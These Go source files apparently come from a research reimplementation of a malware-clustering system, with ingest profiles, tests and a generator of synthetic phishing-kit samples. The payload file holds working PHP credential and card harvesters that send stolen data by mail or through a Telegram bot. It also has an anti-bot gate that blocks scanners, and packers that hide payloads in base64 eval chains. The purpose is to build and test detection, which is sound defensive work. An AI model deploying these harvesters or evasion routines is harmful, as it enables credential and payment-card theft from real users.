	for fam, want := range map[string]string{
		"Angler":           "js",
		"webkit/strato_v2": "webkit",
		"webkit/a/b":       "webkit",
		"mailer/strato_v2": "js",
		"/leading-slash":   "js",
		"webkitless":       "js",
		"":                 "js",
	} {
		if got := ProfileOf(fam).ID(); got != want {
			t.Errorf("ProfileOf(%q) = %q, want %q", fam, got, want)
		}
	}
}
