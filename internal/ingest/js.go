package ingest

import (
	"kizzle/internal/jstoken"
	"kizzle/internal/unpack"
)

// jsProfile is the JS exploit-kit front-end: the paper's lexer and the
// kit-specific unpackers, exposed unchanged. Its kind offset is 0 and its
// lexing delegates straight to jstoken, so every cache key, symbol
// sequence, cluster, and signature is byte-identical to the pre-profile
// pipeline (pinned by the profile differential tests).
type jsProfile struct{}

func init() { Register(jsProfile{}) }

func (jsProfile) ID() string       { return "js" }
func (jsProfile) SymbolSpace() int { return jstoken.SymbolSpace() }
func (jsProfile) KindOffset() int  { return 0 }

func (jsProfile) SymbolFor(class jstoken.Class, text string) jstoken.Symbol {
	return jstoken.MakeToken(class, text, 0, 0).Symbol()
}

func (jsProfile) NewScratch() Scratch { return &jstoken.Scratch{} }

func (jsProfile) Lex(src string) []jstoken.Token { return jstoken.Lex(src) }

func (jsProfile) LexDocument(doc string) []jstoken.Token { return jstoken.LexDocument(doc) }

func (jsProfile) ExtractScripts(doc string) string { return jstoken.ExtractScripts(doc) }

func (jsProfile) Unpack(doc string) (Result, error) {
	res, err := unpack.Unpack(doc)
	if err != nil {
		return Result{}, err
	}
	return Result{Payload: res.Payload, Method: res.Method}, nil
}
