package ingest

import (
	"kizzle/internal/jstoken"
	"kizzle/internal/webkittoken"
)

// webkitProfile is the HTML/PHP/JS phishing-kit front-end. The whole
// bundle is source — markup structure is part of the alphabet — so
// LexDocument lexes the raw document and ExtractScripts is identity.
type webkitProfile struct{}

func init() { Register(webkitProfile{}) }

func (webkitProfile) ID() string       { return "webkit" }
func (webkitProfile) SymbolSpace() int { return webkittoken.SymbolSpace() }

// KindOffset 16 keeps webkit cache entries disjoint from the js
// profile's historical kind range (1–7) with headroom for new kinds.
func (webkitProfile) KindOffset() int { return 16 }

func (webkitProfile) SymbolFor(class jstoken.Class, text string) jstoken.Symbol {
	return webkittoken.SymbolFor(class, text)
}

func (webkitProfile) NewScratch() Scratch { return &webkittoken.Scratch{} }

func (webkitProfile) Lex(src string) []jstoken.Token { return webkittoken.Lex(src) }

func (webkitProfile) LexDocument(doc string) []jstoken.Token { return webkittoken.LexDocument(doc) }

func (webkitProfile) ExtractScripts(doc string) string { return doc }

func (webkitProfile) Unpack(doc string) (Result, error) {
	payload, err := webkittoken.Unpack(doc)
	if err != nil {
		return Result{}, err
	}
	return Result{Payload: payload, Method: "webkit-b64"}, nil
}
