package ingest

import (
	"fmt"
	"sort"
	"sync"

	"kizzle/internal/jstoken"
)

// Result is a successful unpacking, mirroring internal/unpack.Result so
// profiles can wrap workload-specific unpackers behind one shape.
type Result struct {
	// Payload is the decoded inner code.
	Payload string
	// Method names the unpacker that succeeded.
	Method string
}

// Scratch is a reusable symbol-lexing arena. Pipeline workers hold one
// scratch each and stream documents through AppendSymbols; the returned
// slice is an exact-size copy appended to dst, while all lexing scratch
// is retained inside the Scratch for reuse.
type Scratch interface {
	AppendSymbols(dst []jstoken.Symbol, doc string) []jstoken.Symbol
}

// Profile is one ingest front-end: a tokenizer, a streaming symbol
// lexer, an unpacker, and the abstraction alphabet they share. Profiles
// must be stateless and safe for concurrent use; per-goroutine mutable
// state lives in the Scratch values they mint.
type Profile interface {
	// ID is the stable identifier carried on the wire and used to
	// namespace families ("js", "webkit"). It never contains '/'.
	ID() string
	// SymbolSpace is the exclusive upper bound of the profile's
	// abstraction alphabet; workers reject sequences carrying symbols
	// at or above it.
	SymbolSpace() int
	// KindOffset is added to every lexer/unpacker-dependent content
	// cache kind so entries from different profiles never alias. The js
	// profile returns 0, keeping historical cache snapshots valid.
	KindOffset() int
	// SymbolFor recomputes the abstraction symbol for a token of the
	// given class and text; cache codecs use it to restore symbols on
	// tokens decoded from disk.
	SymbolFor(class jstoken.Class, text string) jstoken.Symbol
	// NewScratch mints a fresh per-goroutine lexing arena.
	NewScratch() Scratch
	// Lex tokenizes already-extracted source.
	Lex(src string) []jstoken.Token
	// LexDocument tokenizes a raw document (extracting scripts first
	// where the profile distinguishes documents from source).
	LexDocument(doc string) []jstoken.Token
	// ExtractScripts reduces a raw document to the text that should be
	// fingerprinted when unpacking fails (identity for profiles whose
	// whole document is source).
	ExtractScripts(doc string) string
	// Unpack peels workload-specific packing, returning an error when no
	// known packer structure is recognized.
	Unpack(doc string) (Result, error)
}

var (
	registryMu sync.RWMutex
	registry   = make(map[string]Profile)
)

// Register installs a profile under its ID. It panics on an empty or
// duplicate ID or an ID containing '/': registration is init-time wiring,
// and a collision is a programming error.
func Register(p Profile) {
	id := p.ID()
	if id == "" {
		panic("ingest: Register with empty profile id")
	}
	for i := 0; i < len(id); i++ {
		if id[i] == '/' {
			panic(fmt.Sprintf("ingest: profile id %q contains '/'", id))
		}
	}
	registryMu.Lock()
	defer registryMu.Unlock()
	if _, dup := registry[id]; dup {
		panic(fmt.Sprintf("ingest: duplicate profile id %q", id))
	}
	registry[id] = p
}

// Lookup returns the profile registered under id.
func Lookup(id string) (Profile, bool) {
	registryMu.RLock()
	defer registryMu.RUnlock()
	p, ok := registry[id]
	return p, ok
}

// IDs returns the registered profile identifiers, sorted.
func IDs() []string {
	registryMu.RLock()
	defer registryMu.RUnlock()
	out := make([]string, 0, len(registry))
	for id := range registry {
		out = append(out, id)
	}
	sort.Strings(out)
	return out
}

// Default returns the JS exploit-kit profile — the front-end every
// pre-profile caller implicitly used.
func Default() Profile { return jsProfile{} }

// ProfileOf maps a namespace-qualified family name ("webkit/strato_v2")
// to its workload profile: the prefix before the first '/' when it names
// a registered profile, the default otherwise (un-namespaced families are
// the historical JS corpus).
func ProfileOf(family string) Profile {
	for i := 0; i < len(family); i++ {
		if family[i] == '/' {
			if p, ok := Lookup(family[:i]); ok {
				return p
			}
			break
		}
	}
	return Default()
}
