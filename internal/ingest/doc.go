// Package ingest defines the pluggable ingest-profile seam: everything
// workload-specific about turning raw documents into the pipeline's
// abstract token/symbol streams lives behind the Profile interface —
// tokenization, streaming symbol-only lexing, unpacking, and the
// abstraction alphabet workers validate against.
//
// Two profiles register at init: "js" (the paper's JS exploit-kit
// front-end, wrapping internal/jstoken and internal/unpack bit-identically
// to the pre-profile pipeline) and "webkit" (HTML/PHP/JS phishing-kit
// bundles, wrapping internal/webkittoken). Everything downstream of the
// symbol stream — clustering, reduce, labeling, signature generation,
// publishing — is profile-agnostic; one sigserve fleet can compile both
// corpora and one kizzlegate can serve both signature namespaces.
//
// Profiles are identified by a stable string carried on the shard wire
// (so workers validate sequences against the right alphabet) and used to
// namespace families ("webkit/strato_v2") and offset content-cache kinds
// (so the same document lexed under two profiles never aliases). The js
// profile's kind offset is 0, which keeps every pre-profile cache
// snapshot valid and every js cache key byte-identical.
package ingest
