package phishkit

import (
	"math/rand"
	"strconv"
)

// seedFor derives a stable RNG seed from a sample's coordinates — the
// same FNV-1a construction as internal/ekit, keeping streams reproducible
// and independent across (purpose, family, day, index) tuples.
func seedFor(purpose string, family Family, day, index int) int64 {
	const prime = 1099511628211
	h := uint64(14695981039346656037)
	mix := func(s string) {
		for i := 0; i < len(s); i++ {
			h ^= uint64(s[i])
			h *= prime
		}
		h ^= 0xff
		h *= prime
	}
	mix(purpose)
	mix(strconv.Itoa(int(family)))
	mix(strconv.Itoa(day))
	mix(strconv.Itoa(index))
	return int64(h >> 1)
}

// rng builds the deterministic RNG for a sample.
func rng(purpose string, family Family, day, index int) *rand.Rand {
	return rand.New(rand.NewSource(seedFor(purpose, family, day, index)))
}

const (
	identStartChars = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
	identChars      = identStartChars + "0123456789"
	lowerChars      = "abcdefghijklmnopqrstuvwxyz"
	alnumChars      = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
)

// randIdent produces a random PHP/JS identifier of length [minLen, maxLen].
func randIdent(r *rand.Rand, minLen, maxLen int) string {
	n := minLen
	if maxLen > minLen {
		n += r.Intn(maxLen - minLen + 1)
	}
	b := make([]byte, n)
	b[0] = identStartChars[r.Intn(len(identStartChars))]
	for i := 1; i < n; i++ {
		b[i] = identChars[r.Intn(len(identChars))]
	}
	return string(b)
}

// randLower produces a random lowercase string.
func randLower(r *rand.Rand, minLen, maxLen int) string {
	n := minLen
	if maxLen > minLen {
		n += r.Intn(maxLen - minLen + 1)
	}
	b := make([]byte, n)
	for i := range b {
		b[i] = lowerChars[r.Intn(len(lowerChars))]
	}
	return string(b)
}

// randAlnum produces a random alphanumeric string.
func randAlnum(r *rand.Rand, minLen, maxLen int) string {
	n := minLen
	if maxLen > minLen {
		n += r.Intn(maxLen - minLen + 1)
	}
	b := make([]byte, n)
	for i := range b {
		b[i] = alnumChars[r.Intn(len(alnumChars))]
	}
	return string(b)
}
