package phishkit

import (
	"encoding/base64"
	"fmt"
	"strings"
)

// Pack wraps an unpacked payload in the family's deployment packer: a
// base64_decode eval chain under per-sample randomized identifiers,
// embedded in a family-specific decoy shell. The shell shapes are what
// the clustering layer sees, so each family keeps a distinct outer
// structure (as each JS kit has a distinct packer in internal/ekit).
func Pack(family Family, payload string, day, index int) string {
	b64 := base64.StdEncoding.EncodeToString([]byte(payload))
	r := rng("pack", family, day, index)
	switch family {
	case FamilyStrato:
		marker := randIdent(r, 6, 10)
		return fmt.Sprintf(`<html><head><title>Webmail Access</title><meta name="generator" content="%s"></head><body>
<div id="%s" class="session-wait">Establishing secure session&hellip;</div>
<?php /* %s */ eval(base64_decode(%q)); ?>
</body></html>`, randLower(r, 5, 9), marker, randIdent(r, 8, 14), b64)
	case FamilyChalbhai:
		v := randIdent(r, 5, 9)
		return fmt.Sprintf(`<html><head><title>Secure Sign On</title></head><body>
<table class="frame"><tr><td align="center"><img src="logo_%s.png" alt=""></td></tr></table>
<?php $%s=base64_decode(%q);eval($%s); ?>
</body></html>`, randLower(r, 4, 7), v, b64, v)
	case FamilyXbalti:
		f := randIdent(r, 5, 9)
		return fmt.Sprintf(`<html><head><title>Verification Required</title><meta http-equiv="refresh" content="600"></head><body>
<p class="notice">Your account access has been limited. Complete verification below.</p>
<?php $%s=create_function('',base64_decode(%q));$%s(); ?>
</body></html>`, f, b64, f)
	case FamilyShop16:
		// 16shop double-wraps: the outer blob decodes to another
		// eval(base64_decode(...)) layer around the real core.
		inner := fmt.Sprintf("eval(base64_decode(%q));", b64)
		outer := base64.StdEncoding.EncodeToString([]byte(inner))
		return fmt.Sprintf(`<html><head><title>Store Checkout</title><link rel="stylesheet" href="a_%s.css"></head><body>
<div class="checkout-%s">
<?php eval(base64_decode(%q)); ?>
</div></body></html>`, randLower(r, 4, 7), randLower(r, 3, 5), outer)
	default:
		return payload
	}
}

// UnpackMarker reports whether a document looks packed by any phishkit
// packer (used by tests as a cheap structural check).
func UnpackMarker(doc string) bool {
	return strings.Contains(doc, "base64_decode(")
}
