// Package phishkit generates a deterministic synthetic stream of web
// phishing-kit bundles (HTML/PHP/JS) plus benign web pages — the second
// ingest workload, mirroring internal/ekit's role for the JS exploit-kit
// corpus.
//
// The model follows Venturi et al.'s observations about phishing-kit
// ecosystems: kits are sold and redeployed with a slow-moving PHP core
// (credential harvesters, anti-bot gates, exfil channels) under a fast
// per-deployment randomization layer (identifiers, campaign strings,
// base64 packing). Each synthetic family therefore has a stable payload
// core per version epoch, wrapped by a family-specific packer whose
// identifiers re-randomize every sample — the same onion structure Kizzle
// exploits: cluster on the packed outside, label on the unpacked inside.
//
// Everything is seeded from (purpose, family, day, index) tuples, so
// streams are reproducible across processes and shard layouts.
package phishkit
