package phishkit

import "fmt"

// StreamConfig scales the daily webkit stream. Defaults are sized for
// the end-to-end harness: enough volume per kit to clear the clusterer's
// density floor, small enough that a full day pipelines in test time.
type StreamConfig struct {
	// BenignPerDay is the number of benign pages per day.
	BenignPerDay int
	// KitPerDay gives the mean daily volume per kit.
	KitPerDay map[Family]int
}

// DefaultStreamConfig returns the scale used by the webkit harness.
func DefaultStreamConfig() StreamConfig {
	return StreamConfig{
		BenignPerDay: 300,
		KitPerDay: map[Family]int{
			FamilyStrato:   24,
			FamilyChalbhai: 14,
			FamilyXbalti:   9,
			FamilyShop16:   6,
		},
	}
}

// Stream generates deterministic daily webkit sample sets.
type Stream struct {
	cfg StreamConfig
}

// NewStream validates the configuration and builds a stream.
func NewStream(cfg StreamConfig) (*Stream, error) {
	if cfg.BenignPerDay < 0 {
		return nil, fmt.Errorf("phishkit: negative BenignPerDay %d", cfg.BenignPerDay)
	}
	return &Stream{cfg: cfg}, nil
}

// Day renders the full stream for one simulation day: benign pages
// first, then each kit's deployments, all with ground truth attached.
func (s *Stream) Day(day int) []Sample {
	var out []Sample
	out = append(out, s.benignDay(day)...)
	for _, fam := range Families {
		out = append(out, s.kitDay(fam, day)...)
	}
	return out
}

// MaliciousDay renders only the kit traffic of a day.
func (s *Stream) MaliciousDay(day int) []Sample {
	var out []Sample
	for _, fam := range Families {
		out = append(out, s.kitDay(fam, day)...)
	}
	return out
}

func (s *Stream) benignDay(day int) []Sample {
	r := rng("benign-mix", FamilyBenign, day, 0)
	out := make([]Sample, 0, s.cfg.BenignPerDay)
	for idx := 0; idx < s.cfg.BenignPerDay; idx++ {
		// Zipf-ish: low-numbered kinds are much more common.
		k := int(float64(len(benignKinds)) * r.Float64() * r.Float64())
		if k >= len(benignKinds) {
			k = len(benignKinds) - 1
		}
		kind := benignKinds[k]
		out = append(out, Sample{
			ID:         fmt.Sprintf("wb-%d-%d", day, idx),
			Day:        day,
			Family:     FamilyBenign,
			BenignKind: kind,
			Content:    BenignSample(kind, day, idx),
		})
	}
	return out
}

func (s *Stream) kitDay(family Family, day int) []Sample {
	mean := s.cfg.KitPerDay[family]
	if mean <= 0 {
		return nil
	}
	r := rng("kit-volume", family, day, 0)
	// Daily volume fluctuates around the mean, floored at half so a kit
	// never drops below the clusterer's density threshold by chance.
	n := mean/2 + r.Intn(mean+1)
	payload := Payload(family, day)
	out := make([]Sample, 0, n)
	for i := 0; i < n; i++ {
		out = append(out, Sample{
			ID:      fmt.Sprintf("wk-%s-%d-%d", family.String(), day, i),
			Day:     day,
			Family:  family,
			Variant: VersionIndex(family, day),
			Content: Pack(family, payload, day, i),
		})
	}
	return out
}
