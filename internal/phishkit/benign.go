package phishkit

import (
	"fmt"
	"strings"
)

// Benign page kinds. The mix is heavy-tailed over these, and a couple of
// kinds deliberately include harmless PHP or login forms so neither "has
// PHP" nor "has a password field" separates benign from kit traffic.
var benignKinds = []string{
	"newsletter", "storefront", "blog", "contact", "docs", "webapp",
}

// BenignKinds returns the benign generator families.
func BenignKinds() []string { return append([]string(nil), benignKinds...) }

// BenignSample renders one benign page of the given kind. Structure is
// fixed per kind; text content and asset names randomize per sample.
func BenignSample(kind string, day, index int) string {
	var fam Family // benign pages seed under FamilyBenign
	r := rng("benign-"+kind, fam, day, index)
	words := func(n int) string {
		w := make([]string, n)
		for i := range w {
			w[i] = randLower(r, 3, 9)
		}
		return strings.Join(w, " ")
	}
	switch kind {
	case "newsletter":
		return fmt.Sprintf(`<html><head><title>%s Weekly</title></head><body>
<h1>%s</h1>
<p>%s</p>
<ul><li>%s</li><li>%s</li><li>%s</li></ul>
<p><a href="https://news.example.com/%s">Read more</a></p>
</body></html>`, randLower(r, 5, 9), words(4), words(28), words(6), words(5), words(7), randLower(r, 6, 10))
	case "storefront":
		return fmt.Sprintf(`<html><head><title>%s Shop</title><link rel="stylesheet" href="shop_%s.css"></head><body>
<header><nav><a href="/">Home</a><a href="/cart">Cart</a></nav></header>
<div class="grid">
<div class="item"><img src="p_%s.jpg"><span>%s</span><span>$%d.%02d</span></div>
<div class="item"><img src="p_%s.jpg"><span>%s</span><span>$%d.%02d</span></div>
</div>
<footer>%s</footer></body></html>`, randLower(r, 5, 9), randLower(r, 4, 6),
			randLower(r, 6, 9), words(3), 5+r.Intn(90), r.Intn(100),
			randLower(r, 6, 9), words(3), 5+r.Intn(90), r.Intn(100), words(8))
	case "blog":
		return fmt.Sprintf(`<html><head><title>%s</title></head><body>
<article><h2>%s</h2>
<p>%s</p>
<p>%s</p>
</article>
<section class="comments"><p>%s</p></section>
</body></html>`, words(3), words(6), words(40), words(35), words(12))
	case "contact":
		return fmt.Sprintf(`<html><head><title>Contact %s</title></head><body>
<form method="post" action="/contact">
<label>Name</label><input type="text" name="name">
<label>Email</label><input type="email" name="email">
<label>Message</label><textarea name="message">%s</textarea>
<button type="submit">Send</button>
</form></body></html>`, randLower(r, 5, 9), words(10))
	case "docs":
		return fmt.Sprintf(`<html><head><title>%s Manual</title></head><body>
<nav class="toc"><ul><li><a href="#s1">%s</a></li><li><a href="#s2">%s</a></li></ul></nav>
<h3 id="s1">%s</h3><p>%s</p>
<pre>config.%s = %q;</pre>
<h3 id="s2">%s</h3><p>%s</p>
</body></html>`, randLower(r, 4, 8), words(2), words(2), words(3), words(30),
			randLower(r, 4, 8), words(2), words(3), words(26))
	case "webapp":
		// A legitimate login page with a trivial PHP footer: the benign
		// twin of the harvester shape.
		return fmt.Sprintf(`<html><head><title>%s Portal</title></head><body>
<form method="post" action="/auth/login">
<input type="text" name="username" placeholder="Username">
<input type="password" name="password" placeholder="Password">
<button type="submit">Log in</button>
</form>
<script type="text/javascript">
var form=document.forms[0];form.addEventListener("submit",function(ev){var u=form.username.value;if(u===""){ev.preventDefault();}});
</script>
<?php echo "rendered ".date("Y-m-d"); ?>
</body></html>`, randLower(r, 5, 9))
	default:
		return fmt.Sprintf(`<html><head><title>%s</title></head><body><p>%s</p></body></html>`,
			words(2), words(20))
	}
}
