package phishkit

import (
	"strings"
	"testing"
)

// TestStreamDeterminism: the entire generator is a pure function of
// (config, day) — two independent streams render byte-identical days,
// and re-rendering a day never disturbs it. Every pipeline differential
// in the repo rests on this.
func TestStreamDeterminism(t *testing.T) {
	cfg := DefaultStreamConfig()
	a, err := NewStream(cfg)
	if err != nil {
		t.Fatal(err)
	}
	b, err := NewStream(cfg)
	if err != nil {
		t.Fatal(err)
	}
	for _, day := range []int{1, 35, 36} {
		da, db := a.Day(day), b.Day(day)
		if len(da) == 0 || len(da) != len(db) {
			t.Fatalf("day %d: %d vs %d samples", day, len(da), len(db))
		}
		for i := range da {
			if da[i] != db[i] {
				t.Fatalf("day %d sample %d diverges across streams", day, i)
			}
		}
		again := a.Day(day)
		for i := range da {
			if again[i] != da[i] {
				t.Fatalf("day %d sample %d diverges across renders", day, i)
			}
		}
	}
	// Distinct days draw distinct traffic.
	d35, d36 := a.Day(35), a.Day(36)
	same := true
	for i := range d35 {
		if i >= len(d36) || d35[i] != d36[i] {
			same = false
			break
		}
	}
	if same {
		t.Fatal("consecutive days rendered identical traffic")
	}
}

// TestPayloadVersionEpochs pins the evolution model: payloads change at
// epoch boundaries (signatures must re-train), stay constant within an
// epoch for every family except strato (whose drop addresses rotate
// daily over a stable mailer core), and each family flips on its own
// cadence.
func TestPayloadVersionEpochs(t *testing.T) {
	for _, f := range Families {
		n := flipEvery(f)
		within := Payload(f, n)
		if f == FamilyStrato {
			if Payload(f, n+1) == within {
				t.Errorf("%s: drop addresses did not rotate between days %d and %d", f, n, n+1)
			}
			const core = "function collect_fields"
			if !strings.Contains(within, core) || !strings.Contains(Payload(f, n+1), core) {
				t.Errorf("%s: stable mailer core missing from a daily payload", f)
			}
		} else if Payload(f, n+1) != within {
			t.Errorf("%s: payload changed mid-epoch (days %d, %d)", f, n, n+1)
		}
		if Payload(f, n-1) == within {
			t.Errorf("%s: payload did not change across the epoch boundary at day %d", f, n)
		}
		if VersionIndex(f, n-1) != 0 || VersionIndex(f, n) != 1 {
			t.Errorf("%s: VersionIndex around day %d = %d, %d; want 0, 1",
				f, n, VersionIndex(f, n-1), VersionIndex(f, n))
		}
		if VersionIndex(f, -5) != 0 {
			t.Errorf("%s: negative day must clamp to epoch 0", f)
		}
	}
}

// TestGroundTruthAndPacking: malicious samples carry their family as
// ground truth and at least some deployments pack their payloads
// (base64-wrapped PHP droppers); benign pages never carry a family.
func TestGroundTruthAndPacking(t *testing.T) {
	s, err := NewStream(DefaultStreamConfig())
	if err != nil {
		t.Fatal(err)
	}
	day := 35
	packed := 0
	for _, smp := range s.MaliciousDay(day) {
		if !smp.Family.Malicious() {
			t.Fatalf("malicious day yielded benign sample %s", smp.ID)
		}
		if smp.Content == "" || smp.ID == "" {
			t.Fatalf("empty sample %q", smp.ID)
		}
		if UnpackMarker(smp.Content) {
			packed++
		}
	}
	if packed == 0 {
		t.Error("no packed deployment in a full malicious day")
	}
	for _, smp := range s.Day(day) {
		wantPrefix := "wk-"
		if smp.Family == FamilyBenign {
			wantPrefix = "wb-"
		}
		if !strings.HasPrefix(smp.ID, wantPrefix) {
			t.Fatalf("sample %q (family %s) lacks id prefix %q", smp.ID, smp.Family, wantPrefix)
		}
	}
	if _, err := NewStream(StreamConfig{BenignPerDay: -1}); err == nil {
		t.Fatal("negative BenignPerDay accepted")
	}
}
