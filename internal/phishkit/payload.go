package phishkit

import (
	"fmt"
	"strings"
)

// This file models the inner layer of the phishing-kit onion: the
// unpacked PHP/HTML payloads. Kit cores keep fixed identifiers and
// structure across deployments — operators buy the kit and only swap
// campaign constants — so, as with the exploit kits, the identifiers
// below are fixed strings and only campaign data rotates.

// mailerCore is the credential-exfiltration mailer shared by the
// harvester kits (the phishing-kit ecosystem's equivalent of the copied
// AV check: the same mailer snippet circulates across kit families).
const mailerCore = `function collect_fields($src){$out=array();foreach($src as $k=>$v){$out[]=$k."=".$v;}return implode("&",$out);}
function send_log($to,$body){$headers="From: system@".$_SERVER["SERVER_NAME"];@mail($to,"New Rezult",$body,$headers);}`

// antiBotCore is the crawler/vendor gate: chalbhai-style kits ship long
// blocklists of scanner IP prefixes and user-agent fragments so takedown
// crawlers see a 404.
const antiBotCore = `$blocked=array("66.102.","64.71.","72.14.","208.80.","crawl","spider","google","bingbot","phishtank","netcraft","kaspersky","virustotal");
function is_bot($ip,$ua){global $blocked;foreach($blocked as $b){if(strpos($ip,$b)!==false||strpos(strtolower($ua),$b)!==false){return true;}}return false;}
if(is_bot($_SERVER["REMOTE_ADDR"],strtolower($_SERVER["HTTP_USER_AGENT"]))){header("HTTP/1.0 404 Not Found");die();}`

// Payload returns the unpacked inner document of a kit on a given day.
// Within a version epoch the payload is constant except for strato's
// per-day drop-address rotation (the churn that exercises incremental
// labeling, as RIG's campaign URLs do for the JS corpus).
func Payload(family Family, day int) string {
	switch family {
	case FamilyStrato:
		return stratoPayload(day)
	case FamilyChalbhai:
		return chalbhaiPayload(day)
	case FamilyXbalti:
		return xbaltiPayload(day)
	case FamilyShop16:
		return shop16Payload(day)
	default:
		return ""
	}
}

// stratoPayload is a webmail-credential harvester: stable mailer core,
// per-day rotating drop addresses.
func stratoPayload(day int) string {
	r := rng("strato-drops", FamilyStrato, day, 0)
	drops := make([]string, 2+r.Intn(3))
	for i := range drops {
		drops[i] = fmt.Sprintf("%s@%s.%s", randLower(r, 6, 10), randLower(r, 5, 9), randLower(r, 2, 3))
	}
	var sb strings.Builder
	sb.WriteString("<?php\n$kit_build=\"strato_v2\";\n$drops=array(")
	for i, d := range drops {
		if i > 0 {
			sb.WriteString(",")
		}
		sb.WriteString(`"` + d + `"`)
	}
	sb.WriteString(");\n")
	sb.WriteString(mailerCore)
	sb.WriteString(`
if(isset($_POST["userid"])&&isset($_POST["passwd"])){
$body=collect_fields($_POST)."|".$_SERVER["REMOTE_ADDR"];
foreach($drops as $d){send_log($d,$body);}
header("Location: https://webmail.example.com/appsuite/");
die();
}
?>
<html><head><title>Webmail Login</title></head><body>
<div class="panel"><form method="post" action="">
<label>Email</label><input type="text" name="userid">
<label>Password</label><input type="password" name="passwd">
<button type="submit">Sign in</button>
</form></div></body></html>`)
	return sb.String()
}

// chalbhaiPayload is a bank-login harvester fronted by the anti-bot gate;
// the spoofed brand rotates per version epoch.
func chalbhaiPayload(day int) string {
	brands := []string{"firstunion", "meridian", "cascade", "harborview"}
	epoch := VersionIndex(FamilyChalbhai, day)
	r := rng("chal-brand", FamilyChalbhai, epoch, 0)
	brand := brands[r.Intn(len(brands))]
	return `<?php
$chalbhai="v3";
` + antiBotCore + `
` + mailerCore + `
$brand="` + brand + `";
if(isset($_POST["username"])&&isset($_POST["password"])){
$body="bank=".$brand."&".collect_fields($_POST);
send_log("rezultbox@".$brand."-logs.net",$body);
header("Location: step2.php");
die();
}
?>
<html><head><title>Online Banking</title></head><body>
<div class="login-box"><h2>Sign On</h2>
<form method="post" action="">
<input type="text" name="username" placeholder="User ID">
<input type="password" name="password" placeholder="Password">
<input type="submit" value="Sign On">
</form></div></body></html>`
}

// xbaltiPayload is a two-step harvester exfiltrating over a Telegram bot;
// the bot token rotates per version epoch.
func xbaltiPayload(day int) string {
	epoch := VersionIndex(FamilyXbalti, day)
	r := rng("xbalti-token", FamilyXbalti, epoch, 0)
	token := fmt.Sprintf("%d:%s", 100000000+r.Intn(900000000), randAlnum(r, 30, 35))
	chat := fmt.Sprintf("%d", 1000000+r.Intn(9000000))
	return `<?php
$xb_token="` + token + `";
$xb_chat="` + chat + `";
function tg_send($msg){global $xb_token,$xb_chat;$url="https://api.telegram.org/bot".$xb_token."/sendMessage?chat_id=".$xb_chat."&text=".urlencode($msg);@file_get_contents($url);}
$step=isset($_GET["step"])?$_GET["step"]:"1";
if($step=="1"&&isset($_POST["email"])){tg_send("xbalti|mail|".$_POST["email"]."|".$_POST["pass"]);header("Location: ?step=2");die();}
if($step=="2"&&isset($_POST["cardno"])){tg_send("xbalti|card|".$_POST["cardno"]."|".$_POST["cvv"]."|".$_POST["expiry"]);header("Location: https://www.example.com/");die();}
?>
<html><head><title>Account Verification</title></head><body>
<form method="post" action="">
<input type="email" name="email"><input type="password" name="pass">
<input type="text" name="cardno"><input type="text" name="cvv"><input type="text" name="expiry">
<button type="submit">Continue</button>
</form></body></html>`
}

// shop16Payload is a storefront-brand kit with a license check and
// per-locale strings; the license key rotates per version epoch.
func shop16Payload(day int) string {
	epoch := VersionIndex(FamilyShop16, day)
	r := rng("16shop-key", FamilyShop16, epoch, 0)
	key := randAlnum(r, 24, 28)
	return `<?php
$apikey="` + key + `";
function check_license($key){$h=md5($key."16shop");return substr($h,0,2)!=="zz";}
if(!check_license($apikey)){die("license");}
$locale=isset($_GET["lang"])?$_GET["lang"]:"en";
$strings=array("en"=>array("title"=>"Verify Your Account","cta"=>"Continue"),"jp"=>array("title"=>"Verify","cta"=>"Next"));
if(!isset($strings[$locale])){$locale="en";}
` + mailerCore + `
if(isset($_POST["appleid"])){send_log("result@shop-panel.live",collect_fields($_POST));header("Location: done.php");die();}
?>
<html><head><title><?php echo $strings[$locale]["title"]; ?></title></head><body>
<div class="card"><form method="post" action="">
<input type="text" name="appleid"><input type="password" name="applepw">
<button type="submit"><?php echo $strings[$locale]["cta"]; ?></button>
</form></div></body></html>`
}
