package phishkit

import "fmt"

// Family identifies the ground-truth origin of a webkit sample.
type Family int

// The four phishing kits under study plus benign. FamilyBenign is the
// zero value: an unlabeled page is benign until proven otherwise.
const (
	FamilyBenign Family = iota
	FamilyStrato
	FamilyChalbhai
	FamilyXbalti
	FamilyShop16
)

// Families lists the malicious families in a stable order.
var Families = []Family{FamilyStrato, FamilyChalbhai, FamilyXbalti, FamilyShop16}

// String returns the family name as published (and as namespaced on the
// wire: "webkit/" + String()).
func (f Family) String() string {
	switch f {
	case FamilyBenign:
		return "benign"
	case FamilyStrato:
		return "strato_v2"
	case FamilyChalbhai:
		return "chalbhai"
	case FamilyXbalti:
		return "xbalti"
	case FamilyShop16:
		return "16shop"
	default:
		return fmt.Sprintf("family(%d)", int(f))
	}
}

// Malicious reports whether the family is a phishing kit.
func (f Family) Malicious() bool { return f != FamilyBenign }

// Sample is one web document with its ground truth.
type Sample struct {
	// ID uniquely identifies the sample within a stream.
	ID string
	// Day is the simulation day.
	Day int
	// Family is the ground-truth origin; FamilyBenign for benign pages.
	Family Family
	// BenignKind names the benign generator family (empty for kits).
	BenignKind string
	// Variant tags which kit version epoch produced a malicious sample.
	Variant int
	// Content is the full HTML/PHP document.
	Content string
}

// flipEvery gives each kit's version-epoch length in days: the payload
// core and packer constants re-randomize when day/flipEvery ticks over,
// modeling a kit release.
func flipEvery(f Family) int {
	switch f {
	case FamilyStrato:
		return 10
	case FamilyChalbhai:
		return 9
	case FamilyXbalti:
		return 11
	case FamilyShop16:
		return 13
	default:
		return 10
	}
}

// VersionIndex returns the version epoch a family is serving on a day.
func VersionIndex(f Family, day int) int {
	if day < 0 {
		day = 0
	}
	return day / flipEvery(f)
}
