package verdictcache

import (
	"encoding/hex"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"
)

func TestCacheGetPut(t *testing.T) {
	c := New(8)
	if _, ok := c.Get(1, 42); ok {
		t.Fatal("empty cache hit")
	}
	c.Put(1, 42, Verdict{Blocked: true, Family: "strato"})
	v, ok := c.Get(1, 42)
	if !ok || !v.Blocked || v.Family != "strato" {
		t.Fatalf("got %+v ok=%v", v, ok)
	}
	c.Put(1, 42, Verdict{}) // overwrite in place
	if v, _ := c.Get(1, 42); v.Blocked {
		t.Fatal("overwrite did not take")
	}
	if c.Len() != 1 {
		t.Fatalf("Len = %d, want 1", c.Len())
	}
}

// TestCacheVersionWipe pins wholesale invalidation: a version bump wipes
// every resident verdict, and entries from older versions are dropped.
